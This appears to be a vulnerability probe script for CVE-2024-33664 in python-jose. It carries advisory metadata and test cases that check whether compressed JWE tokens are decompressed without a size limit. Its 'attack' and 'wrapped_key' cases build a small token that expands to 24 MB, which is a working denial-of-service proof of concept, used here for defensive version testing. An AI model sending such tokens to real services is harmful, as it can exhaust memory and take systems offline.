# /// vertice-probe
# id = "PYSEC-2024-233"
# aliases = ["CVE-2024-33664", "GHSA-cjwg-qfpm-7377"]
# package = "python-jose"
# summary = "A compressed encrypted token is unpacked whatever size it becomes, so a small token takes a great deal of memory."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L" }]
# cwe = ["CWE-400"]
# kind = "dos"
# symbols = ["jose.jwe.decrypt"]
# needs = ["cryptography"]
#
# [[affected]]
# package = "python-jose"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.4.0" }] }]
#
# [cases]
# attack = "a token of some 50 kB is unpacked to 24 MB"
# [cases.variants]
# wrapped_key = "the same with a wrapped key and CBC encryption"
# [cases.controls]
# round_trip = "a small compressed token is encrypted and decrypted"
#
# [test]
# vulnerable = "3.3.0"
# fixed = "3.4.0"
# ///
"""CVE-2024-33664: compressed tokens without a limit."""

import json
import sys
import warnings

warnings.simplefilter("ignore")
LARGE = 24 * 1000 * 1000


def decrypt_and_look(key, algorithm, encryption):
    from jose import jwe
    from jose.exceptions import JWEError

    def encrypt(data):
        return jwe.encrypt(data, key, algorithm=algorithm, encryption=encryption, zip="DEF")

    if jwe.decrypt(encrypt(b"hello"), key) != b"hello":
        return "error", "a small token was not decrypted"
    token = encrypt(b"\0" * LARGE)
    try:
        size = len(jwe.decrypt(token, key))
    except JWEError as error:
        if "Decompressed" not in str(error):
            raise
        return "blocked", "JWEError: %s; a small token was decrypted" % error
    if size == LARGE and len(token) * 100 < LARGE:
        return "exploited", "a token of less than %d bytes was unpacked to %d" % (LARGE // 100, LARGE)
    return "error", "%d bytes were unpacked to %d" % (len(token), size)


def attack():
    return decrypt_and_look(b"k" * 16, "dir", "A128GCM")


def wrapped_key():
    return decrypt_and_look(b"k" * 16, "A128KW", "A128CBC-HS256")


def round_trip():
    from jose import jwe
    from jose.exceptions import JWEError

    text = b"order 7 of bob; " * 200
    token = jwe.encrypt(text, b"k" * 16, algorithm="dir", encryption="A128GCM", zip="DEF")
    try:
        jwe.decrypt(token, b"w" * 16)
        refused = False
    except JWEError:
        refused = True
    good = jwe.decrypt(token, b"k" * 16) == text and refused
    return ("works", "decrypted, wrong key refused") if good else ("broken", "refused=%r" % refused)


CASES = {"attack": attack, "wrapped_key": wrapped_key, "round_trip": round_trip}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
